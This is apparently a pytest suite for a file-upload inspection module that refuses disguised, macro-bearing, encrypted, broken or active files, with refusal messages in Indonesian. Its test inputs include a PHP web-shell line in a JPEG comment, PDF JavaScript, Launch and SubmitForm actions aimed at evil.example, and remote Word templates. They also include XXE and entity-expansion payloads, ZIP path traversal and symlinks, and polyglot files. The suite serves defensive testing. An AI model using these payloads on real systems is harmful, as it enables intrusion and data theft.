"""What is let in: name, content and structure say the same, and the file does nothing by itself. Each refusal is a sentence."""

import contextlib
import io
import stat
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image

from sikerja.files import inspection
from sikerja.files.faults import SENTENCES
from sikerja.refusals import Refusal
from tests.files import samples
from tests.files.samples import (
    MEGABYTE,
    action,
    docx,
    docx_parts,
    jpeg,
    odt,
    packed,
    pdf,
    png,
    relations,
    root,
    tiff,
    with_entry,
)

LIMIT = 25 * MEGABYTE
KIND = "Jenis berkas ini tidak diterima. Gunakan PDF, DOCX, XLSX, PPTX, ODT, ODS, JPEG, PNG, atau TIFF."
UNREADABLE = "Berkas tidak dapat dibaca. Periksa berkasnya, lalu unggah lagi."
ENCRYPTED = "Berkas ini dikunci atau dibatasi dengan kata sandi. Simpan tanpa kata sandi, lalu unggah lagi."
MACRO = "Berkas ini memuat makro. Simpan tanpa makro, atau simpan sebagai PDF, lalu unggah lagi."
EXTERNAL = "Berkas ini mengambil isi dari tempat lain. Sisipkan isinya ke dalam dokumen, lalu unggah lagi."
ENTITIES = "Berkas ini memuat definisi XML yang tidak diterima. Simpan ulang dari aplikasinya, lalu unggah lagi."


def program(name: str) -> str:
    return f"Berkas ini memuat program ({name}). Hapus lampirannya dari dokumen, lalu unggah lagi."


def content(ending: str) -> str:
    return f"Isi berkas tidak sesuai dengan akhiran .{ending}."


def mixed(ending: str) -> str:
    return f"Berkas memuat data lain di luar isi .{ending}. Simpan ulang dari aplikasinya, lalu unggah lagi."


def look(data: bytes, name: str, **options: Any) -> inspection.Accepted:
    return inspection.inspect(io.BytesIO(data), name, LIMIT, **options)


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(Refusal) as refused:
        look(data, name)
    assert list(refused.value.errors) == ["file"]
    return refused.value.errors["file"]


# Word writes where a template lies on the disk of whoever wrote the letter.
OWN_TEMPLATES = [
    ("attachedTemplate", target, "External")
    for target in ("file:///C:\\Templat\\Surat.dotm", "file://C:/Templat/Surat.dotm", "C:\\Surat.dotm", "Normal.dotm")
]
OPEN_XML = "application/vnd.openxmlformats-officedocument."


@pytest.mark.parametrize(
    ("name", "kind", "mime", "pages"),
    [
        ("naskah.pdf", "pdf", "application/pdf", 3),
        ("naskah.docx", "docx", OPEN_XML + "wordprocessingml.document", None),
        ("rekap.xlsx", "xlsx", OPEN_XML + "spreadsheetml.sheet", None),
        ("paparan.pptx", "pptx", OPEN_XML + "presentationml.presentation", None),
        ("naskah.odt", "odt", "application/vnd.oasis.opendocument.text", None),
        ("rekap.ods", "ods", "application/vnd.oasis.opendocument.spreadsheet", None),
        ("pindaian.jpg", "jpeg", "image/jpeg", 1),
        ("pindaian.png", "png", "image/png", 1),
        ("pindaian.tiff", "tiff", "image/tiff", 2),
    ],
)
def test_nine_kinds_are_let_in(name: str, kind: str, mime: str, pages: int | None) -> None:
    assert look(samples.GOOD[name](), name) == (kind, mime, name.rpartition(".")[2], pages, ())


@pytest.mark.parametrize(
    ("name", "make"),
    [
        ("v1.2 final.pdf", pdf),
        ("Naskah.PDF", pdf),
        ("naskah.pdf.", pdf),
        ("surat.docx.pdf", pdf),
        ("bertajuk.pdf", lambda: pdf(linearize=True)),
        ("ringkas.pdf", lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        ("dibuka di halaman dua.pdf", lambda: pdf(change=action(S=pikepdf.Name.GoTo, D=[0, pikepdf.Name.Fit]))),
        ("berakhir baris kosong.pdf", lambda: pdf() + b"\r\n\0\0\0"),
        ("foto.jpeg", lambda: jpeg(progressive=True)),
        ("foto dengan peta kecerahan.jpg", lambda: jpeg() + samples.picture("JPEG", (4000, 4000), quality=100)),
        ("foto dengan tanda kamera.jpg", lambda: jpeg() + b"SEFT" * 100),
        ("palet.png", lambda: png(mode="P")),
        ("abu-abu.tif", lambda: tiff(1)),
        ("templat di cakram sendiri.docx", lambda: packed(docx_parts() | {"word/_rels/settings.xml.rels": relations(*OWN_TEMPLATES)})),
        ("gambar svg.docx", lambda: packed(docx_parts() | {"word/media/logo.svg": "<!DOCTYPE svg><svg/>"})),
    ],
)  # fmt: skip
def test_what_offices_and_cameras_write_is_let_in(name: str, make: Callable[[], bytes]) -> None:
    assert look(make(), name).extension == name.lower().rstrip(".").rpartition(".")[2]


@pytest.mark.parametrize("name", ["naskah.exe", "naskah.pdf.exe", "naskah", "naskah.", ".pdf", "naskah.svg", "naskah.docm", "naskah.doc", "naskah.html", "naskah.zip", "naskah.gif", "nas\u202efdp.exe", "naskah.pdf\0.exe", "", "pdf"])  # fmt: skip
def test_other_endings_are_refused(name: str) -> None:
    assert refusal(pdf(), name) == KIND


@pytest.mark.parametrize("name", ["../../naskah.pdf", "C:\\Users\\sinta\\naskah.pdf", "naskah.pdf/x", "/etc/naskah.pdf"])
def test_a_path_is_no_name(name: str) -> None:
    assert refusal(pdf(), name) == SENTENCES["path"]


@pytest.mark.parametrize("name", ["CON.pdf", "nul .pdf", "com1.tar.pdf", "Lpt¹.pdf"])
def test_a_device_is_no_name(name: str) -> None:
    found = name.partition(".")[0].strip()
    assert refusal(pdf(), name) == SENTENCES["device"].format(found=found)


@pytest.mark.parametrize(
    ("name", "found"),
    [("a.exe.pdf", "exe"), ("naskah.php.pdf", "php"), ("naskah.PHP5.pdf", "php5"), ("naskah.html.pdf", "html"), ("a.js .pdf", "js"), ("a.exe.v2.pdf", "exe"), ("a.p\u200bhp.pdf", "php")],
)  # fmt: skip
def test_a_programs_ending_in_the_middle_is_refused(name: str, found: str) -> None:
    assert refusal(pdf(), name) == f"Nama berkas memuat akhiran .{found} di tengah. Ganti namanya, lalu unggah lagi."


def test_an_empty_file_is_refused() -> None:
    assert refusal(b"", "naskah.pdf") == "Berkas ini kosong. Pilih berkas yang benar, lalu unggah lagi."


@pytest.mark.parametrize(("size", "told"), [(25 * MEGABYTE + 1, 26), (31 * MEGABYTE, 31)])
def test_a_large_file_is_refused_with_its_size(size: int, told: int) -> None:
    assert refusal(bytes(size), "naskah.pdf") == f"Berkas {told} MB, paling besar 25 MB."


@pytest.mark.parametrize("kept", samples.GOOD)
@pytest.mark.parametrize("claimed", ["pdf", "docx", "xlsx", "pptx", "odt", "ods", "jpg", "png", "tif"])
def test_content_under_another_ending_is_refused(kept: str, claimed: str) -> None:
    if claimed == kept.rpartition(".")[2].replace("tiff", "tif"):
        assert look(samples.GOOD[kept](), f"naskah.{claimed}").extension == claimed
    else:
        assert refusal(samples.GOOD[kept](), f"naskah.{claimed}") == content(claimed)


# The end of a ZIP that says it is the third of five.
SEVERAL_DISKS = b"PK\x06\x07" + struct.pack("<LQL", 2, 0, 5) + b"PK\x05\x06" + b"\xff" * 16 + b"\0\0"
TWO_IN_ONE = {
    "program": (b"MZ\x90\0" * 100, "a.pdf", content("pdf")),
    "page": (b"<html><script>alert(1)</script>", "a.pdf", content("pdf")),
    "gif and script before a pdf": (b"GIF89a/*" + pdf() + b"*/=1;", "a.pdf", content("pdf")),
    "line before a pdf": (b"\r\n" + pdf(), "a.pdf", content("pdf")),
    "other zip": (packed({"catatan.txt": "isi"}), "a.docx", content("docx")),
    "script before a zip": (b"<script>" + docx(), "a.docx", content("docx")),
    "old word": (samples.ole("WordDocument"), "a.docx", content("docx")),
    "script in the head of a pdf": (
        pdf().replace(b"%PDF-1", b"%PDF-1.7<script>alert(1)</script>\n%", 1),
        "a.pdf",
        mixed("pdf"),
    ),
    "zip behind a pdf": (pdf() + docx(), "a.pdf", mixed("pdf")),
    "page behind a pdf": (pdf() + b"<html><script>alert(1)</script></html>", "a.pdf", mixed("pdf")),
    "rar behind a pdf": (pdf() + b"Rar!\x1a\x07\x01\0" + bytes(200), "a.pdf", mixed("pdf")),
    "anything behind a pdf": (pdf() + bytes(range(1, 9)) * 200, "a.pdf", mixed("pdf")),
    "zip hidden in the last picture of a pdf": (
        pdf(1, samples.with_stream(docx()), compress_streams=False),
        "a.pdf",
        mixed("pdf"),
    ),
    "something behind a zip": (docx() + b"isi", "a.docx", mixed("docx")),
    "pdf behind a zip": (docx() + pdf(), "a.docx", mixed("docx")),
    "zip behind a photo": (jpeg() + docx(), "a.jpg", mixed("jpg")),
    "zip of several disks behind a photo": (jpeg() + SEVERAL_DISKS, "a.jpg", mixed("jpg")),
    "anything behind a photo": (jpeg() + bytes(MEGABYTE), "a.jpg", mixed("jpg")),
    "pdf in the head of a photo": (jpeg(comment=b"%PDF-1.7 1 0 obj"), "a.jpg", mixed("jpg")),
    "php in the head of a photo": (jpeg(comment=b"<?php system($_GET[0]);"), "a.jpg", mixed("jpg")),
    "script behind a photo": (jpeg() + b"<script>alert(1)</script>", "a.jpg", mixed("jpg")),
    "zip behind a png": (png() + docx(), "a.png", mixed("png")),
    "anything behind a png": (png() + bytes(MEGABYTE), "a.png", mixed("png")),
    "zip behind a tiff": (tiff() + docx(), "a.tif", mixed("tif")),
}


@pytest.mark.parametrize(("data", "name", "sentence"), TWO_IN_ONE.values(), ids=TWO_IN_ONE)
def test_two_files_in_one_are_refused(data: bytes, name: str, sentence: str) -> None:
    assert refusal(data, name) == sentence


def test_a_zip_with_something_before_its_first_entry_is_refused() -> None:
    for before in (b"PK\x03\x04#!/bin/sh\n", b"PK\x03\x04" + bytes(5000)):
        assert refusal(before + docx(), "a.docx") == mixed("docx")
        assert refusal(samples.begun_late(before), "a.docx") == mixed("docx")


MACRO_TYPES = docx_parts()["[Content_Types].xml"]


@pytest.mark.parametrize(
    "data",
    [
        with_entry("word/vbaProject.bin"),
        with_entry("word/VBAPROJECT.BIN"),
        with_entry("xl/macrosheets/sheet1.xml", b"<x/>"),
        with_entry("word/activeX/activeX1.xml", b"<x/>"),
        packed(docx_parts() | {"[Content_Types].xml": str(MACRO_TYPES).replace("openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main")}),
        packed(docx_parts() | {"[Content_Types].xml": str(MACRO_TYPES).replace("<Override", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override', 1)}),
    ],
    ids=["project", "project in capitals", "macro sheet", "control", "macro document", "macro under another name"],
)  # fmt: skip
def test_macros_in_office_files_are_refused(data: bytes) -> None:
    assert refusal(data, "naskah.docx") == MACRO


@pytest.mark.parametrize(
    "more",
    [
        {"Basic/Standard/script-lb.xml": "<x/>"},
        {"Scripts/python/jalan.txt": "import os"},
        {"styles.xml": '<x href="vnd.sun.star.script:a.py$b?language=Python"/>'},
    ],
    ids=["basic", "python", "call"],
)
def test_macros_in_open_document_files_are_refused(more: dict[str, str]) -> None:
    assert refusal(odt(**more), "naskah.odt") == MACRO


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf(encryption=pikepdf.Encryption(user="rahasia", owner="rahasia")), "a.pdf"),
        (pdf(encryption=pikepdf.Encryption(user="", owner="rahasia")), "a.pdf"),
        (samples.ole("EncryptedPackage"), "a.docx"),
        (samples.ole("EncryptedPackage"), "a.xlsx"),
        (samples.locked_zip(), "a.docx"),
        (odt('<manifest:encryption-data manifest:checksum="x"/>'), "a.odt"),
    ],
    ids=["pdf", "pdf for reading only", "docx", "xlsx", "zip", "odt"],
)
def test_locked_files_are_refused(data: bytes, name: str) -> None:
    assert refusal(data, name) == ENCRYPTED


NAME = pikepdf.Name


@pytest.mark.parametrize(
    ("change", "flags", "words"),
    [
        (action(S=NAME.JavaScript, JS="app.alert(1)"), ("on_open", "script"), "tindakan saat dibuka, skrip"),
        (root(Names="<< /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"), ("script",), "skrip"),
        (root(Hidden="[[<< /A [<< /S /JavaScript >>] >>]]"), ("script",), "skrip"),
        (action(S=NAME.Launch, F="cmd.exe"), ("launch", "on_open"), "menjalankan program, tindakan saat dibuka"),
        (action(S=NAME.URI, URI="http://evil.example"), ("on_open",), "tindakan saat dibuka"),
        (root(AA="<< /WC << /S /Named /N /Print >> >>"), ("on_event",), "tindakan otomatis"),
        (samples.embedded_file, ("embedded",), "berkas sisipan"),
        (root(Annotation="<< /Type /Annot /Subtype /RichMedia >>"), ("media",), "media"),
        (root(AcroForm="<< /Fields [] /XFA (<xdp/>) >>"), ("xfa",), "formulir XFA"),
        (root(Button="<< /S /SubmitForm /F (http://evil.example) >>"), ("send",), "pengiriman data"),
    ],
    ids=["script on open", "named script", "nested script", "launch", "address on open", "event", "embedded", "media", "xfa", "send"],
)  # fmt: skip
def test_a_pdf_that_acts_is_refused_or_flagged(change: Any, flags: tuple[str, ...], words: str) -> None:
    for data in (pdf(change=change), pdf(change=change, object_stream_mode=pikepdf.ObjectStreamMode.generate)):
        assert (
            refusal(data, "a.pdf")
            == f"PDF ini memuat bagian yang dapat berjalan sendiri ({words}). Cetak ulang ke PDF, lalu unggah lagi."
        )
        assert look(data, "a.pdf", refuse_active_pdf=False).flags == flags


def test_a_script_under_an_escaped_name_is_seen() -> None:
    data = (
        pdf(change=action(S=NAME.JavaScript, JS="app.alert(1)"))
        .replace(b"/JavaScript", b"/J#61vaScr#69pt")
        .replace(b"/JS", b"/#4aS")
    )
    assert "script" in look(data, "a.pdf", refuse_active_pdf=False).flags


def test_a_pdf_that_only_speaks_of_scripts_is_let_in() -> None:
    assert look(pdf(change=root(Info="<< /Title (Pedoman /JS dan /JavaScript) >>")), "a.pdf").flags == ()


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm"),
        ("attachedTemplate", "HTTPS://evil.example/t.dotm"),
        ("attachedTemplate", "\\\\evil.example\\t.dotm"),
        ("attachedTemplate", "file://evil.example/t.dotm"),
        ("attachedTemplate", "file:///\\\\evil.example\\t.dotm"),
        ("attachedTemplate", "htt%70://evil.example/t.dotm"),
        ("oleObject", "mhtml:http://evil.example!x"),
        ("image", "http://evil.example/pixel.png"),
    ],
)
def test_what_is_fetched_on_opening_is_refused(kind: str, target: str) -> None:
    data = packed(docx_parts() | {"word/_rels/settings.xml.rels": relations((kind, target, "External"))})
    assert refusal(data, "a.docx") == EXTERNAL


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16"),
    ],
    ids=["entities", "external", "in UTF-16"],
)
def test_xml_that_declares_is_refused(text: str | bytes) -> None:
    assert refusal(packed(docx_parts() | {"word/styles.xml": text}), "a.docx") == ENTITIES
    assert refusal(odt(**{"styles.xml": text}), "a.odt") == ENTITIES


@pytest.mark.parametrize(
    "name",
    ["../keluar.xml", "/etc/passwd", "word\\..\\x.xml", "C:/x.xml", "word//x.xml", "word/./x.xml", "word/a\tb.xml", "word/document.xml", "WORD/Document.xml"],
)  # fmt: skip
def test_a_zip_with_misleading_names_is_refused(name: str) -> None:
    with pytest.warns(UserWarning, match="Duplicate") if name == "word/document.xml" else contextlib.nullcontext():
        data = with_entry(name, b"<x/>")
    assert refusal(data, "a.docx") == UNREADABLE


def test_a_zip_with_a_link_is_refused() -> None:
    assert refusal(with_entry("word/tautan", b"/etc/passwd", (stat.S_IFLNK | 0o777) << 16), "a.docx") == UNREADABLE


@pytest.mark.parametrize(
    ("name", "inside"), [("word/embeddings/jalan.exe", b"isi"), ("word/media/gambar.bin", b"MZ\x90\0"), ("word/a.js", b"1")]
)
def test_a_program_in_an_office_file_is_refused(name: str, inside: bytes) -> None:
    assert refusal(with_entry(name, inside), "a.docx") == program(name.rpartition("/")[2])


BROKEN = {
    "pdf without its end": (pdf()[:-200], "a.pdf"),
    "beginning of a pdf": (pdf()[:100], "a.pdf"),
    "pdf of nothing": (b"%PDF-1.7\n%%EOF", "a.pdf"),
    "pdf without pages": (pdf(pages=0), "a.pdf"),
    "zip without its end": (docx()[:-50], "a.docx"),
    "beginning of a zip": (docx()[:400], "a.docx"),
    "zip that disagrees with its directory": (docx().replace(b"word/document.xml", b"word/dokumen1.xml", 1), "a.docx"),
    "zip with a wrong sum": (docx().replace(samples.crc(docx_parts()["word/document.xml"]), b"\1\2\3\4"), "a.docx"),
    "unsound xml": (packed(docx_parts() | {"word/document.xml": "<w:document>"}), "a.docx"),
    "photo without its end": (jpeg()[:-40], "a.jpg"),
    "beginning of a photo": (jpeg()[:100], "a.jpg"),
    "png without its end": (png()[:-20], "a.png"),
    "png with a wrong sum": (png()[:-13] + bytes([png()[-13] ^ 1]) + png()[-12:], "a.png"),
    "png with too few pixels": (samples.bare_png(200, 200), "a.png"),
    "png with a damaged middle": (png()[:60] + b"\0\0\0\0" + png()[64:], "a.png"),
    "half a tiff": (tiff()[: len(tiff()) // 2], "a.tif"),
    "tiff without its last strip": (samples.tiff_with_strip_outside(), "a.tif"),
    "tiff of nothing": (b"II*\0" + b"\xff" * 40, "a.tif"),
}


@pytest.mark.parametrize(("data", "name"), BROKEN.values(), ids=BROKEN)
def test_broken_files_are_refused(data: bytes, name: str) -> None:
    assert refusal(data, name) == UNREADABLE


def test_an_upload_is_left_where_it_was_read(tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(pdf())
    with (tmp_path / "x").open("rb") as file:
        file.seek(7)
        assert inspection.inspect(file, "naskah.pdf", LIMIT).pages == 3
        assert file.tell() == 7
        with pytest.raises(Refusal):
            inspection.inspect(file, "naskah.docx", LIMIT)
        assert file.tell() == 7
    assert inspection.inspect(tmp_path / "x", "naskah.pdf", LIMIT).pages == 3


def test_a_picture_of_a_mode_of_its_own_is_let_in() -> None:
    output = io.BytesIO()
    Image.new("CMYK", (40, 30)).save(output, "JPEG")
    assert look(output.getvalue(), "cetak.jpg").kind == "jpeg"
